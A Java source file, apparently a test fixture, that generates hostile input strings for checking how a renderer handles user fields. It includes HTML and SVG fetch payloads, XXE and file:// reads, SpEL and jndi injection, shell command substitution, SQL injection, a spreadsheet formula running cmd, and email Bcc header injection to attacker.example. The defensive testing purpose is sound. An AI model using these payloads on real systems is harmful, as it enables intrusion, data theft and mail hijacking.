package com.quittance.injection;

import java.util.List;
import java.util.stream.Stream;

/** What people who wish us ill write into a field. */
public final class Hostile {

  /** Whatever some program takes for the end of a line, and so for the end of a header. */
  public static final List<String> LINE_BREAKS =
      List.of(
          "\r\n",
          "\n",
          "\r",
          "\n\n",
          "\r\r\n",
          "\u0085",
          "\u2028",
          "\u2029",
          "\u000B",
          "\f",
          "\u0000",
          "\u0000\r\n",
          "\u001C",
          "\u001D",
          "\u001E",
          "\t\r\n\t",
          "\r\n ");

  private Hostile() {}

  /**
   * @param url where a fetch would be noticed
   * @param file a file that nobody has a reason to open
   */
  public static List<String> payloads(String url, String file) {
    return Stream.concat(fetched(url, file), taken(url, file)).toList();
  }

  private static Stream<String> fetched(String url, String file) {
    return Stream.of(
        // Fetched by whoever takes it for HTML.
        "<img src=%s1>".formatted(url),
        "\"><img src='%s2'/>".formatted(url),
        "'><img src=\"%s3\">".formatted(url),
        "<img srcset=\"%s4 1x\">".formatted(url),
        "<link rel=\"stylesheet\" href=\"%s5\"/>".formatted(url),
        "<link rel=attachment href=file://%s />".formatted(file),
        "<style>@import url(%s6); *{background:url(%s7)}</style>".formatted(url, url),
        "<style>@font-face{font-family:Inter;src:url(%s8)}</style>".formatted(url),
        "<div style=\"background:url('%s9')\">x</div>".formatted(url),
        "<iframe src=\"file://%s\"></iframe>".formatted(file),
        "<iframe srcdoc=\"&lt;img src=%s10&gt;\"></iframe>".formatted(url),
        "<object data=\"%s11\" type=\"image/svg+xml\"></object>".formatted(url),
        "<embed src=\"%s12\"/>".formatted(url),
        "<video poster=\"%s13\"><source src=\"%s14\"></video>".formatted(url, url),
        "<svg><image xlink:href=\"%s15\"/></svg>".formatted(url),
        "<svg><use href=\"%s16#a\"/></svg>".formatted(url),
        "<base href=\"%s\"/><img src=\"17\"/>".formatted(url),
        "<meta http-equiv=\"refresh\" content=\"0;url=%s18\"/>".formatted(url),
        "<bookmark name=\"x\" href=\"%s19\"/>".formatted(url),
        "<script src=\"%s20\"></script>".formatted(url),
        "<script>fetch('%s21')</script>".formatted(url),
        "<img src=x onerror=\"fetch('%s22')\">".formatted(url),
        "<svg/onload=fetch('%s23')>".formatted(url),
        "<a href=\"javascript:f()\">x</a> url(%s24)".formatted(url),
        "<form action=\"%s25\"><input name=x autofocus></form>".formatted(url),
        "<annotation href=\"%s26\"/><input type=\"file\"/>".formatted(url),
        "<img src=\"data:image/svg+xml,<svg onload=f()>\"/>",
        "<img src=\"jar:%s27!/x\"/>".formatted(url),
        "<img src=\"\\\\127.0.0.1\\share\\28.png\"/>",
        "<img src=\"//127.0.0.1/29\"/>",
        "<img src=\"tenant:logo\"/>",
        "<img src=\"classpath:/fonts/OFL.txt\"/>");
  }

  private static Stream<String> taken(String url, String file) {
    return Stream.of(
        // Taken for the end of where it stands.
        "</style></title></td></table><script>f()</script>",
        "</textarea></xmp></noscript><b>30</b>",
        "--><b>31</b><!--",
        "]]><b>32</b><![CDATA[",
        "<!DOCTYPE a [<!ENTITY x SYSTEM \"file://%s\">]>&x;".formatted(file),
        "<!ENTITY %% x SYSTEM \"%s33\">%%x;".formatted(url),
        "<![CDATA[ x ]]> <!-- c --> <?xml-stylesheet href=\"%s34\"?>".formatted(url),
        "<xi:include href=\"file://%s\"/>".formatted(file),
        "&lt;b&gt; &amp; &#60; &copy; &nbsp; &#x3c;",
        "<div style=\"position:running(foot)\">x</div>",
        "<div style=\"content:element(foot);display:none\">x</div>",
        // Taken for a template or a command.
        "${page} #{1+1} !{x} @if(true) {seller} $1 \\1",
        "${T(java.lang.Runtime).getRuntime().exec('touch %s')}".formatted(file),
        "{{7*7}} <%= 7*7 %> #set($x=7) [[${7*7}]]",
        "${jndi:%s35}".formatted(url.replace("http", "ldap")),
        "{0} {1,number} {number} '{' ''quoted'' {",
        "%s %n %d %x %1$s",
        "$(touch %1$s) `touch %1$s` ; touch %1$s | x".formatted(file),
        "../../../../../../../..%s".formatted(file),
        "'; DROP TABLE invoice; --",
        "' OR '1'='1' UNION SELECT null --",
        "\\'; SELECT pg_sleep(9); -- $$ $a$",
        // Taken for a formula, an address, a header, another field.
        "=HYPERLINK(\"%s36\",\"x\")".formatted(url),
        "=cmd|' /C calc'!A0",
        "+1+1@SUM(1)-2",
        "x\" <evil@attacker.example>, y",
        "evil@attacker.example, b@attacker.example; c",
        "=?utf-8?B?PGltZyBzcmM9eD4=?= =?utf-8?Q?=0D=0ABcc:_evil@attacker.example?=",
        "Bcc: evil@attacker.example %0d%0aBcc: evil@attacker.example");
  }
}
